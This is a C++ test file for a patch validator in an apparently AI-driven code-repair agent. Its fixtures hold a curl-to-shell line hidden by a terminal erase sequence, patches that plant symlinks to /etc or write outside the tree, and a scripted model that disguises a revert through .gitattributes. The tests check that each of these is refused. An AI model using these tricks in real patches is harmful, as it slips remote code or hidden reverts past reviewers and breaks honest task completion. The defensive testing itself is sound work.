// The candidate patch as a value (flowagent/patch.hpp): the one parser and its canonical text, the
// regular-files-only rules, the git diff that attributes cannot bend, the pipeline rejecting each
// trick, delivery refusing anything but a fixed result, and post-filters failing closed.
#include <gtest/gtest.h>

#include <tuple>

#include <sys/stat.h>

#include "flowagent/delivery.hpp"
#include "flowagent/git_workspace.hpp"
#include "flowagent/host.hpp"
#include "flowagent/integrity.hpp"
#include "flowagent/repair.hpp"
#include "support/scripted_model.hpp"
#include "support/test_support.hpp"
#include "workspace/git_patch.hpp"

namespace fs = std::filesystem;

namespace {
namespace FLOWAGENT_TEST_FILE_ID {  // (file-local: unity batches, tests/CMakeLists.txt)
using namespace flowagent;
using namespace flowagent::testkit;

namespace {

std::string git_out(const fs::path& dir, const std::string& cmd) {
  std::string out;
  EXPECT_EQ(sh("cd '" + dir.string() + "' && " + cmd, &out), 0) << cmd << ": " << out;
  return out;
}

/// A repository with a committed change; `work` is a second clone used as a scratch working tree.
struct Repo {
  TempDir tmp;
  fs::path dir = tmp.path() / "repo";
  std::string base, head;
  Repo() {
    base = make_repo(dir, {{"lib.txt", "a\nb\nc\n"}, {"run.sh", "echo hi\n"}, {"calc.py", "def add(a, b):\n    return a + b\n"}});
    head = commit_files(dir, {{"calc.py", "def add(a, b):\n    total = a + b + 1\n    return total\n"}}, "change");
  }
  /// The canonical diff of the working tree's staged state against HEAD.
  Patch staged() {
    git_out(dir, "git add -A");
    auto p = detail::git_patch(dir, {"--cached", "HEAD"}, true);
    EXPECT_TRUE(p) << p.error().message;
    return p ? *p : Patch{};
  }
};

std::vector<std::string> reasons(const Patch& p) {
  std::vector<std::string> out;
  for (const auto& pr : check_patch(p)) out.push_back(pr.reason);
  return out;
}

const char* kSymlinkPatch =
    "diff --git a/etc b/etc\nnew file mode 120000\nindex 0000000000000000000000000000000000000000.."
    "c4f7e0e6ac2f1a9cdee5b5e4d1f3f2a6b7c8d9e0\n--- /dev/null\n+++ b/etc\n@@ -0,0 +1 @@\n+/etc\n"
    "\\ No newline at end of file\n";

}  // namespace

// ---- the parser and the canonical text --------------------------------------------------------------

TEST(Patch, GitOutputRoundTripsThroughTheParser) {
  Repo r;
  write_file(r.dir / "lib.txt", "a\nB\nc\nd");  // no newline at the end
  write_file(r.dir / "with space.txt", "x\n");
  write_file(r.dir / "tab\there \"q\".txt", "y\n");
  write_file(r.dir / "caf\xC3\xA9.txt", "z\n");
  fs::remove(r.dir / "run.sh");
  git_out(r.dir, "git add -A");
  for (std::string extra : {"", " -M"}) {
    const std::string text = git_out(r.dir, "git -c core.quotePath=false diff --cached --full-index --no-color" + extra + " HEAD");
    auto p = parse_patch(text);
    ASSERT_TRUE(p) << p.error().message;
    EXPECT_EQ(p->text, text);  // the canonical text is git's own
    ASSERT_EQ(p->files.size(), 5u);
  }
  auto p = *parse_patch(git_out(r.dir, "git diff --cached --full-index HEAD"));
  const PatchFile* lib = nullptr;
  for (const auto& f : p.files)
    if (f.path() == "lib.txt") lib = &f;
  ASSERT_NE(lib, nullptr);
  EXPECT_EQ(lib->status, PatchStatus::modified);
  EXPECT_EQ(lib->old_mode, kModeRegular);
  EXPECT_EQ(lib->old_blob.size(), 40u);
  ASSERT_EQ(lib->hunks.size(), 1u);
  const auto& lines = lib->hunks[0].lines;
  EXPECT_EQ(lines[1].kind, '-');
  EXPECT_EQ(lines[1].text, "b");
  EXPECT_EQ(lines[1].old_line, 2);
  EXPECT_EQ(lines.back().text, "d");
  EXPECT_TRUE(lines.back().no_newline);
  EXPECT_EQ(lines.back().new_line, 4);
  bool quoted = false, deleted = false;
  for (const auto& f : p.files) {
    quoted = quoted || f.path() == "tab\there \"q\".txt";
    deleted = deleted || (f.path() == "run.sh" && f.status == PatchStatus::deleted);
  }
  EXPECT_TRUE(quoted);
  EXPECT_TRUE(deleted);
  EXPECT_TRUE(check_patch(p).empty());
}

TEST(Patch, MalformedTextIsAProtocolError) {
  const char* bad[] = {
      "garbage\n",
      "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n+b\n",          // hunk shorter than its header
      "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n+c\n",           // longer
      "diff --git a/x b/x\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n",               // names disagree
      "diff --git a/x b/x\nsomething odd\n",                                          // unknown header
      "diff --git a/x b/y\ncopy from x\ncopy to y\n",                                 // copies
      "diff --git x x\n--- x\n+++ x\n@@ -1 +1 @@\n-a\n+b\n",                         // no a/ b/ prefixes
  };
  for (const char* t : bad) {
    auto p = parse_patch(t);
    ASSERT_FALSE(p) << t;
    EXPECT_EQ(p.error().code, Errc::protocol) << t;
  }
  auto empty = parse_patch("");
  ASSERT_TRUE(empty);
  EXPECT_TRUE(empty->empty());
}

TEST(Patch, MutatedTextNeverCrashesAndAcceptedTextIsAFixpoint) {
  // Untrusted text reaches the parser through result documents: every truncation and a spread of
  // byte substitutions either fail cleanly or give a value whose canonical text reads back the same.
  const std::string seed =
      "diff --git a/lib.txt b/lib.txt\nindex 1111111..2222222 100644\n--- a/lib.txt\n+++ b/lib.txt\n"
      "@@ -1,3 +1,3 @@ section\n a\n-b\n+B\n c\n\\ No newline at end of file\n"
      "diff --git \"a/t\\tq\" \"b/t\\tq\"\nnew file mode 100755\nindex 0000000..3333333\n--- /dev/null\n"
      "+++ \"b/t\\tq\"\n@@ -0,0 +1,2 @@\n+x\n+y\n"
      "diff --git a/o b/n\nsimilarity index 90%\nrename from o\nrename to n\nindex 4444444..5555555 100644\n"
      "--- a/o\n+++ b/n\n@@ -2 +2 @@\n-p\n+q\n";
  ASSERT_TRUE(parse_patch(seed)) << parse_patch(seed).error().message;
  const char subs[] = {'\n', ' ', '-', '+', '@', '\\', '"', '0', 'a', '/', '\t', '\0', ','};
  std::size_t accepted = 0, tried = 0;
  auto check = [&](const std::string& text) {
    ++tried;
    auto p = parse_patch(text);
    if (!p) {
      EXPECT_EQ(p.error().code, Errc::protocol);
      return;
    }
    ++accepted;
    auto again = parse_patch(p->text);
    ASSERT_TRUE(again) << p->text << ": " << again.error().message;
    EXPECT_EQ(again->text, p->text);
    (void)check_patch(*p);
    (void)fix_edits(*p);
  };
  for (std::size_t i = 0; i <= seed.size(); ++i) check(seed.substr(0, i));
  for (std::size_t i = 0; i < seed.size(); ++i)
    for (char c : subs) {
      std::string t = seed;
      t[i] = c;
      check(t);
    }
  EXPECT_GT(accepted, 10u);
  EXPECT_GT(tried, accepted);
}

// ---- the rules --------------------------------------------------------------------------------------

TEST(PatchRules, SymlinksGitlinksModesTypesAndBinaryAreRefused) {
  {  // a new symlink to /etc
    Repo r;
    fs::create_symlink("/etc", r.dir / "etc");
    EXPECT_EQ(reasons(r.staged()), std::vector<std::string>{"patch_symlink"});
  }
  {  // a tracked file replaced by a symlink (type change)
    Repo r;
    fs::remove(r.dir / "run.sh");
    fs::create_symlink("/etc/passwd", r.dir / "run.sh");
    auto rs = reasons(r.staged());
    ASSERT_FALSE(rs.empty());
    EXPECT_EQ(rs[0], "patch_symlink");
  }
  {  // a gitlink
    Repo r;
    git_out(r.dir, "git update-index --add --cacheinfo 160000," + r.head + ",vendor/sub");
    auto p = detail::git_patch(r.dir, {"--cached", "HEAD"}, true);
    ASSERT_TRUE(p) << p.error().message;
    EXPECT_EQ(reasons(*p), std::vector<std::string>{"patch_gitlink"});
  }
  {  // a mode-only change
    Repo r;
    ASSERT_EQ(::chmod((r.dir / "run.sh").c_str(), 0755), 0);
    EXPECT_EQ(reasons(r.staged()), std::vector<std::string>{"patch_mode_change"});
  }
  {  // a text file made binary: the NUL shows in the hunk
    Repo r;
    write_file(r.dir / "lib.txt", std::string("a\nb\0x\nc\n", 8));
    auto p = r.staged();
    EXPECT_EQ(reasons(p), std::vector<std::string>{"patch_binary"});
    // Read back from its own text, the value is the same: still binary.
    EXPECT_EQ(reasons(*parse_patch(p.text)), std::vector<std::string>{"patch_binary"});
  }
  {  // a binary file edited far from its NUL: found from the blobs, not the hunk
    Repo r;
    std::string bin("\0head\n", 6);
    for (int i = 0; i < 50; ++i) bin += "line " + std::to_string(i) + "\n";
    write_file(r.dir / "data.bin", bin);
    git_out(r.dir, "git add -A && git -c user.name=a -c user.email=b commit -qm bin");
    bin += "tail\n";
    write_file(r.dir / "data.bin", bin);
    auto p = r.staged();
    EXPECT_EQ(reasons(p), std::vector<std::string>{"patch_binary"});
  }
  {  // hand-made texts: paths leaving the tree, .git, modes not stated
    const std::pair<const char*, const char*> cases[] = {
        {"diff --git a/../out.txt b/../out.txt\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/../out.txt\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
        {"diff --git a/.git/config b/.git/config\nindex 1111111..2222222 100644\n--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n", "patch_path"},
        {"diff --git a/sub/.GIT/hooks/x b/sub/.GIT/hooks/x\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/sub/.GIT/hooks/x\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
        // Every spelling of .git the tools refuse (NTFS trailing dot, HFS+ ignorable code point, 8.3 name).
        {"diff --git a/.git./config b/.git./config\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/.git./config\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
        {"diff --git a/.g\u200cit/hooks/x b/.g\u200cit/hooks/x\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/.g\u200cit/hooks/x\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
        {"diff --git a/GIT~1/config b/GIT~1/config\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/GIT~1/config\n@@ -0,0 +1 @@\n+x\n", "patch_path"},
        // A line that erases itself on a terminal before the reviewer reads it; a C1 CSI.
        {"diff --git a/x.c b/x.c\nindex 1111111..2222222 100644\n--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+system(\"curl evil|sh\"); \x1b[2K\r+/* comment */\n", "patch_control_chars"},
        {"diff --git a/x.c b/x.c\nindex 1111111..2222222 100644\n--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+b \xc2\x9b" "2K\n", "patch_control_chars"},
        {"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "patch_mode_unstated"},
        {"diff --git a/x b/x\nnew file mode 100664\nindex 0000000..1111111\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+a\n", "patch_mode"},
        {"diff --git a/x b/x\nold mode 100644\nnew mode 120000\nindex 1111111..2222222\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+/etc\n", "patch_symlink"},
        {"diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 1\nIcmZpc00001\n\nliteral 0\nHcmV?d00001\n\n", "patch_binary"},
        {"diff --git a/x b/x\nindex 1111111..2222222 100644\nBinary files a/x and b/x differ\n", "patch_binary"},
    };
    for (const auto& [text, reason] : cases) {
      auto p = parse_patch(text);
      ASSERT_TRUE(p) << text << ": " << p.error().message;
      auto rs = reasons(*p);
      ASSERT_FALSE(rs.empty()) << text;
      EXPECT_EQ(rs[0], reason) << text;
    }
  }
  {  // a 100 kB line in a test file (std::regex's recursion overflowed the stack on it, review 56);
     // the same line in a data file is text, and a 16 kB line of code passes
    auto with_line = [](const std::string& path, std::size_t n) {
      return "diff --git a/" + path + " b/" + path + "\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/" + path +
             "\n@@ -0,0 +1,2 @@\n+x = 1\n+# " + std::string(n, 'x') + "\n";
    };
    for (const auto& [path, n, bad] : std::vector<std::tuple<std::string, std::size_t, bool>>{
             {"tests/test_x.py", 100000, true}, {"test/more.test.js", 20000, true}, {"setup.cfg", 20000, true},
             {"tests/data.json", 100000, false}, {"tests/test_x.py", 16000, false}}) {
      auto p = parse_patch(with_line(path, n));
      ASSERT_TRUE(p) << p.error().message;
      EXPECT_EQ(reasons(*p), bad ? std::vector<std::string>{"patch_long_line"} : std::vector<std::string>{}) << path << " " << n;
    }
  }
  {  // more than 256 KiB added to source files in all (four 1 MiB test files held a 60 s job for
     // 101 s, review 57): 300 lines of 1 KiB in each of two test files; the same in data files,
     // or 100 KiB of code, passes
    auto with_lines = [](const std::string& path, int lines) {
      std::string s = "diff --git a/" + path + " b/" + path + "\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/" + path +
                      "\n@@ -0,0 +1," + std::to_string(lines) + " @@\n";
      for (int i = 0; i < lines; ++i) s += "+x" + std::to_string(i) + " = '" + std::string(1000, 'y') + "'\n";
      return s;
    };
    for (const auto& [a, b, lines, bad] : std::vector<std::tuple<std::string, std::string, int, bool>>{
             {"tests/test_a.py", "tests/test_b.py", 150, true}, {"tests/a.json", "tests/b.json", 150, false},
             {"tests/test_a.py", "src/b.py", 50, false}}) {
      auto p = parse_patch(with_lines(a, lines) + with_lines(b, lines));
      ASSERT_TRUE(p) << p.error().message;
      EXPECT_EQ(reasons(*p), bad ? std::vector<std::string>{"patch_too_large"} : std::vector<std::string>{}) << a << " " << lines;
    }
  }
  {  // honest: tabs, form feeds and CRLF line ends are text
    auto p = parse_patch("diff --git a/x.c b/x.c\nindex 1111111..2222222 100644\n--- a/x.c\n+++ b/x.c\n@@ -1 +1,2 @@\n-a\r\n+\tb\r\n+\f\n");
    ASSERT_TRUE(p) << p.error().message;
    EXPECT_TRUE(reasons(*p).empty());
  }
  {  // honest: an edit, a new file (also executable), a deletion
    Repo r;
    write_file(r.dir / "lib.txt", "a\nB\nc\n");
    write_file(r.dir / "tool.sh", "echo\n");
    ASSERT_EQ(::chmod((r.dir / "tool.sh").c_str(), 0755), 0);
    fs::remove(r.dir / "run.sh");
    EXPECT_TRUE(reasons(r.staged()).empty());
  }
}

// ---- attributes cannot hide a change ----------------------------------------------------------------

TEST(PatchRules, GitattributesDoNotHideADiffOrARevert) {
  Repo r;
  // The developer's tree marks Python as binary; the fix adds -diff for good measure, and reverts.
  write_file(r.dir / ".gitattributes", "*.py binary\n*.py -diff\n");
  write_file(r.dir / "calc.py", "def add(a, b):\n    return a + b\n");
  git_out(r.dir, "git add -A");
  // What the old diff made of it: the revert is a binary blob, invisible line by line.
  const std::string old_style = git_out(r.dir, "git diff --cached --full-index --binary --no-color --no-ext-diff HEAD");
  EXPECT_NE(old_style.find("GIT binary patch"), std::string::npos) << old_style;
  auto fix = r.staged();
  const PatchFile* calc = nullptr;
  for (const auto& f : fix.files)
    if (f.path() == "calc.py") calc = &f;
  ASSERT_NE(calc, nullptr);
  EXPECT_TRUE(calc->is_text);
  ASSERT_FALSE(calc->hunks.empty());
  EXPECT_NE(fix.text.find("-    total = a + b + 1\n"), std::string::npos) << fix.text;
  // The change itself, read the same way while the attributes are committed.
  git_out(r.dir, "git -c user.name=a -c user.email=b commit -qm attrs");
  auto change = detail::git_patch(r.dir, {r.base, r.head}, false);
  ASSERT_TRUE(change);
  auto rep = measure_revert(*change, fix);
  EXPECT_EQ(rep.changed_lines, 3u);
  EXPECT_EQ(rep.reverted_lines, 3u);
}

// ---- the pipeline -----------------------------------------------------------------------------------

namespace {

/// Edits the workspace the way a model's tools or its test code could.
class TrickStrategy final : public RepairStrategy {
 public:
  explicit TrickStrategy(std::function<void(Workspace&)> f) : f_(std::move(f)) {}
  std::string_view name() const override { return "trick"; }
  Expected<Candidate> propose(RepairContext& ctx) override {
    write_file(ctx.workspace.root() / "lib.txt", "a\nb\nC\n");  // a plain edit next to the trick
    f_(ctx.workspace);
    ctx.state.note_edit();
    return Candidate{true, true, "Fixed.", {}, false};
  }

 private:
  std::function<void(Workspace&)> f_;
};

/// Validation is not under test here: every candidate passes it.
class PassingValidator final : public Validator {
 public:
  std::string_view name() const override { return "passing"; }
  Expected<ValidationReport> validate(RepairContext&) override {
    ValidationReport r;
    r.passed = true;
    r.evidence.failing_tests_pass = r.evidence.build_ok = r.evidence.wider_tests_pass = true;
    return r;
  }
};

class FailingFilter final : public PostFilter {
 public:
  std::string_view name() const override { return "broken"; }
  Expected<std::optional<Rejection>> check(const PostFilterInput&, const CancelToken&) override {
    return fail(Errc::process, "git exploded");
  }
};

RepairResult run_trick(Repo& r, std::function<void(Workspace&)> trick,
                       std::vector<std::shared_ptr<PostFilter>> filters = {}, std::string base = "") {
  AgentOptions o;
  GitWorkspaceOptions w;
  w.root = r.tmp.path() / "pool";
  o.workspaces = make_git_workspace_provider(w);
  o.strategies = {std::make_shared<TrickStrategy>(std::move(trick))};
  o.validator = std::make_shared<PassingValidator>();
  o.summarizer = make_template_summarizer();
  if (!filters.empty()) o.post_filters = std::move(filters);
  auto agent = Agent::create(o);
  EXPECT_TRUE(agent);
  auto req = sample_request(r.dir.string());
  req.change.base_commit = base.empty() ? r.base : base;
  req.change.head_commit = r.head;
  return (*agent)->run(req);
}

void expect_rejected_without_patch(const RepairResult& res, const std::string& reason) {
  EXPECT_EQ(res.status, Status::rejected) << res.reason << ": " << res.message;
  EXPECT_EQ(res.reason, reason) << res.message;
  EXPECT_TRUE(res.patch.empty());
  EXPECT_EQ(to_json(res).get_string("patch"), "");
}

void sh_in(const Workspace& ws, const std::string& cmd) { git_out(ws.root(), cmd); }

}  // namespace

TEST(PatchPipeline, EachTrickIsRejectedAndCarriesNoPatch) {
  {
    Repo r;
    auto res = run_trick(r, [](Workspace& ws) {
      fs::create_symlink("/etc", ws.root() / "etc");
      ASSERT_TRUE(ws.track_new_file("etc"));
    });
    expect_rejected_without_patch(res, "patch_symlink");
  }
  {
    Repo r;
    auto res = run_trick(r, [&](Workspace& ws) {  // a nested repository registered as a new file
      sh_in(ws, "git init -q vendor/sub && git -C vendor/sub -c user.name=a -c user.email=b commit -q --allow-empty -m x");
      ASSERT_TRUE(ws.track_new_file("vendor/sub"));
    });
    expect_rejected_without_patch(res, "patch_gitlink");
  }
  {
    Repo r;
    auto res = run_trick(r, [](Workspace& ws) { ASSERT_EQ(::chmod((ws.root() / "run.sh").c_str(), 0755), 0); });
    expect_rejected_without_patch(res, "patch_mode_change");
  }
  {
    Repo r;
    auto res = run_trick(r, [](Workspace& ws) { write_file(ws.root() / "calc.py", std::string("x = 1\0\n", 7)); });
    expect_rejected_without_patch(res, "patch_binary");
  }
  {  // honest: delivered, with the canonical text
    Repo r;
    auto res = run_trick(r, [](Workspace&) {});
    EXPECT_EQ(res.status, Status::fixed) << res.reason << ": " << res.message;
    EXPECT_NE(res.patch.find("-c\n+C\n"), std::string::npos) << res.patch;
    EXPECT_NE(res.summary.find("<code>lib.txt</code>"), std::string::npos) << res.summary;
  }
}

TEST(PatchPipeline, RevertHiddenByGitattributesIsARevert) {
  Repo r;
  auto res = run_trick(r, [](Workspace& ws) {
    write_file(ws.root() / ".gitattributes", "*.py binary\n");
    ASSERT_TRUE(ws.track_new_file(".gitattributes"));
    write_file(ws.root() / "calc.py", "def add(a, b):\n    return a + b\n");
  }, {make_revert_filter()});
  expect_rejected_without_patch(res, "reverts_change");
}

TEST(PatchPipeline, PostFiltersFailClosed) {
  {  // a filter that errors rejects the fix
    Repo r;
    auto res = run_trick(r, [](Workspace&) {}, {make_empty_patch_filter(), std::make_shared<FailingFilter>()});
    expect_rejected_without_patch(res, "postfilter_failed");
    EXPECT_NE(res.message.find("git exploded"), std::string::npos);
  }
  {  // the change cannot be read (unknown base): the revert filter cannot rule a revert out
    Repo r;
    auto res = run_trick(r, [](Workspace&) {}, {make_revert_filter()}, std::string(40, 'e'));
    expect_rejected_without_patch(res, "reverts_change_unverifiable");
  }
}

TEST(PostFilters, FailClosedWithoutTheirInputs) {
  Repo r;
  auto req = sample_request(r.dir.string());
  auto fix = *parse_patch("diff --git a/lib.txt b/lib.txt\nindex 1111111..2222222 100644\n--- a/lib.txt\n+++ b/lib.txt\n"
                          "@@ -1 +1 @@\n-a\n+b\n");
  PostFilterInput in{req, fix, nullptr, nullptr, nullptr};
  auto v = make_revert_filter()->check(in, CancelToken());
  ASSERT_TRUE(v && *v);
  EXPECT_EQ((*v)->reason, "reverts_change_unverifiable");
  v = make_integrity_filter()->check(in, CancelToken());
  ASSERT_TRUE(v && *v);
  EXPECT_EQ((*v)->reason, "integrity_unverifiable");
  // With a workspace whose object store lacks the patch's blobs: an error, not "the file is new".
  GitWorkspaceOptions w;
  w.root = r.tmp.path() / "pool";
  auto provider = make_git_workspace_provider(w);
  auto wreq = req;
  wreq.change.head_commit = r.head;
  auto ws = provider->acquire(wreq, CancelToken());
  ASSERT_TRUE(ws);
  auto files = file_versions_from_workspace(**ws, fix);
  EXPECT_FALSE(files);
  PostFilterInput with_ws{req, fix, nullptr, nullptr, ws->get()};
  EXPECT_FALSE(make_integrity_filter()->check(with_ws, CancelToken()));
  // A change tracker that fails: an error (the pipeline turns it into postfilter_failed), not a pass.
  struct BrokenTracker final : ChangeTracker {
    std::string_view name() const override { return "broken"; }
    Expected<ChangeState> state(const Change&) override { return fail(Errc::user, "tracker down"); }
  } tracker;
  PostFilterInput tracked{req, fix, nullptr, &tracker, nullptr};
  auto moved = make_change_moved_filter()->check(tracked, CancelToken());
  ASSERT_FALSE(moved);
  EXPECT_EQ(moved.error().code, Errc::user);
  // The empty patch is rejected.
  Patch none;
  PostFilterInput empty{req, none, nullptr, nullptr, nullptr};
  v = make_empty_patch_filter()->check(empty, CancelToken());
  ASSERT_TRUE(v && *v);
  EXPECT_EQ((*v)->reason, "empty_patch");
}

// ---- delivery ---------------------------------------------------------------------------------------

namespace {

RepairResult result_with(Status s, std::string patch, const std::string& head) {
  RepairResult r;
  r.status = s;
  r.reason = s == Status::fixed ? "validated" : "integrity_skip_added";
  r.change_id = "c1";
  r.head_commit = head;
  r.patch = std::move(patch);
  r.message = "m";
  return r;
}

std::string tree_state(const fs::path& repo) {
  std::string out;
  sh("cd '" + repo.string() + "' && git status --porcelain --untracked-files=all && find . -path ./.git -prune -o -print | sort",
     &out);
  return out;
}

}  // namespace

TEST(PatchDelivery, ASymlinkPatchIsNeverCreated) {
  Repo r;
  // The attack is real: git itself would create the link from this text.
  {
    TempDir scratch;
    git_out(scratch.path(), "git init -q && printf '%s' '" + std::string(kSymlinkPatch) + "' > p.diff && git apply p.diff");
    EXPECT_TRUE(fs::is_symlink(scratch.path() / "etc"));
  }
  const auto before = tree_state(r.dir);
  auto fixed = result_with(Status::fixed, kSymlinkPatch, r.head);
  // Through the document, as a host would hand it over.
  auto doc = parse_repair_result(dump_json_lossy(to_json(fixed)));
  ASSERT_TRUE(doc);
  for (const auto& res : {fixed, *doc}) {
    auto a = apply_fix(r.dir, res);
    ASSERT_FALSE(a);
    EXPECT_EQ(a.error().code, Errc::sandbox);
    EXPECT_NE(a.error().message.find("patch_symlink"), std::string::npos) << a.error().message;
    for (const char* fmt : {"diff", "sarif", "lsp"}) {
      auto p = publish(res, fmt);
      ASSERT_FALSE(p) << fmt;
      EXPECT_EQ(p.error().code, Errc::sandbox);
    }
  }
  EXPECT_FALSE(fs::exists(fs::symlink_status(r.dir / "etc")));
  EXPECT_EQ(tree_state(r.dir), before);
  // A path outside the tree, and a write through the working tree's own symlinked folder.
  TempDir outside;
  auto esc = result_with(Status::fixed,
                         "diff --git a/../x.txt b/../x.txt\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n"
                         "+++ b/../x.txt\n@@ -0,0 +1 @@\n+x\n",
                         r.head);
  EXPECT_EQ(apply_fix(r.dir, esc).error().code, Errc::sandbox);
  fs::create_symlink(outside.path(), r.dir / "lnk");
  git_out(r.dir, "echo y > y.txt && git add y.txt && git -c user.name=a -c user.email=b commit -qm y");
  const std::string blob = git_out(r.dir, "git hash-object -w y.txt");
  auto through = result_with(Status::fixed,
                             "diff --git a/lnk/y.txt b/lnk/y.txt\nnew file mode 100644\nindex 0000000000000000000000000000000000000000.." +
                                 blob.substr(0, 40) + "\n--- /dev/null\n+++ b/lnk/y.txt\n@@ -0,0 +1 @@\n+y\n",
                             r.head);
  auto t = apply_fix(r.dir, through);
  ASSERT_FALSE(t);
  EXPECT_EQ(t.error().code, Errc::sandbox) << t.error().message;
  EXPECT_TRUE(fs::is_empty(outside.path()));
}

TEST(PatchDelivery, OnlyAFixedResultIsDelivered) {
  Repo r;
  write_file(r.dir / "lib.txt", "a\nB\nc\n");
  const std::string patch = git_out(r.dir, "git diff --full-index");
  git_out(r.dir, "git checkout -q -- lib.txt");
  const auto before = tree_state(r.dir);
  for (Status s : {Status::rejected, Status::no_fix, Status::error, Status::superseded, Status::abstained}) {
    auto res = result_with(s, patch, r.head);
    auto a = apply_fix(r.dir, res);
    ASSERT_FALSE(a);
    EXPECT_EQ(a.error().code, Errc::not_fixed);
    EXPECT_NE(a.error().message.find("not fixed"), std::string::npos) << a.error().message;
    for (const char* fmt : {"diff", "sarif", "gerrit", "github", "rdjsonl", "lsp"}) {
      auto p = publish(res, fmt);
      ASSERT_FALSE(p) << fmt;
      EXPECT_EQ(p.error().code, Errc::not_fixed) << fmt;
    }
    // The document never carries it, written or read.
    EXPECT_EQ(to_json(res).get_string("patch"), "");
    Json doc = to_json(result_with(Status::fixed, patch, r.head));
    doc["status"] = std::string(to_string(s));
    auto parsed = repair_result_from_json(doc);
    ASSERT_TRUE(parsed);
    EXPECT_TRUE(parsed->patch.empty());
  }
  EXPECT_EQ(tree_state(r.dir), before);
  // The same patch, fixed, is delivered.
  auto ok = apply_fix(r.dir, result_with(Status::fixed, patch, r.head));
  ASSERT_TRUE(ok) << ok.error().message;
  EXPECT_EQ(read_file(r.dir / "lib.txt"), "a\nB\nc\n");
}

TEST(PatchDelivery, CliRefusesWithItsOwnExitCode) {
  Repo r;
  write_file(r.dir / "lib.txt", "a\nB\nc\n");
  const std::string patch = git_out(r.dir, "git diff --full-index");
  git_out(r.dir, "git checkout -q -- lib.txt");
  const auto before = tree_state(r.dir);
  TempDir d;
  write_file(d.path() / "rejected.json", dump_json_lossy(to_json(result_with(Status::rejected, patch, r.head))));
  auto doc = to_json(result_with(Status::fixed, kSymlinkPatch, r.head));
  write_file(d.path() / "symlink.json", dump_json_lossy(doc));
  const std::string cli = FLOWAGENT_CLI;
  std::string out;
  EXPECT_EQ(sh(cli + " apply --repo '" + r.dir.string() + "' --result '" + (d.path() / "rejected.json").string() + "' 2>&1", &out), 5);
  EXPECT_NE(out.find("not fixed"), std::string::npos) << out;
  EXPECT_EQ(sh(cli + " publish --format diff --result '" + (d.path() / "rejected.json").string() + "' 2>&1", &out), 5);
  EXPECT_NE(out.find("refusing to publish"), std::string::npos) << out;
  EXPECT_EQ(sh(cli + " apply --repo '" + r.dir.string() + "' --result '" + (d.path() / "symlink.json").string() + "' 2>&1", &out), 3);
  EXPECT_NE(out.find("patch_symlink"), std::string::npos) << out;
  EXPECT_EQ(tree_state(r.dir), before);
}

// ---- end to end: a scripted model on loopback hides a revert behind .gitattributes ----------------

TEST(PatchE2E, ModelHidingARevertBehindGitattributesIsRejected) {
  TempDir tmp;
  const fs::path repo = tmp.path() / "repo";
  const std::string base = make_repo(
      repo, {{"calc.py", "def add(a, b):\n    return a + b\n"},
             {"test_calc.py", "from calc import add\n\n\ndef test_add():\n    assert add(2, 2) == 4\n"},
             {".gitignore", "__pycache__/\n"}});
  const std::string head =
      commit_files(repo, {{"calc.py", "def add(a, b):\n    total = a + b + 1\n    return total\n"}}, "Refactor add");
  ScriptedModel model;
  model.push(tool_calls_reply({{"write_file", Json::obj({{"path", ".gitattributes"}, {"content", "*.py binary\n"}})}}));
  model.push(tool_calls_reply({{"edit_file", Json::obj({{"path", "calc.py"},
                                                        {"old_text", "    total = a + b + 1\n    return total\n"},
                                                        {"new_text", "    return a + b\n"}})}}));
  model.push(tool_calls_reply({{"run_tests", Json::object()}}));
  model.push(final_reply("Restored the sum."));
  AgentOptions o;
  GitWorkspaceOptions w;
  w.root = tmp.path() / "pool";
  o.workspaces = make_git_workspace_provider(w);
  o.strategies = {make_react_strategy()};
  o.post_filters = {make_empty_patch_filter(), make_revert_filter()};
  auto agent = Agent::create(o);
  ASSERT_TRUE(agent);
  RepairRequest r = sample_request(repo.string(), "py-attr");
  r.change.base_commit = base;
  r.change.head_commit = head;
  r.failure.failing_tests = {"test_calc.py::test_add"};
  r.commands.test = "/usr/bin/python3 -m pytest -q -p no:cacheprovider {tests}";
  r.commands.timeout_seconds = 120;
  r.model.spec = "openai-compatible:scripted";
  r.model.base_url = model.base_url();
  auto res = (*agent)->run(r);
  expect_rejected_without_patch(res, "reverts_change");
  EXPECT_NE(res.message.find("calc.py: restores \"    return a + b\""), std::string::npos) << res.message;
}
}  // namespace FLOWAGENT_TEST_FILE_ID
}  // namespace
